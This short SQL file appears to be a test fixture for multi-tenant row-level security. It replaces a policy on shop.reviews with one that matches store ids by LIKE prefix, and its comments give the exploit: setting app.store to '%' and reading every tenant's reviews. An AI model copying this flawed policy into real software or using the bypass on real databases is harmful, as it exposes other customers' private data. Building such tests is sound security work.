-- Tenant A reads the reviews of stores whose id begins like its own.
-- about: reviews
-- as: ho_webshop_app
-- exploit: SET app.store = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SET app.store = '%';
-- exploit: SELECT body FROM shop.reviews;
-- shows: rb-secret
DROP POLICY store ON shop.reviews;
CREATE POLICY store ON shop.reviews
  USING (store_id::text LIKE current_setting('app.store', true) || '%');
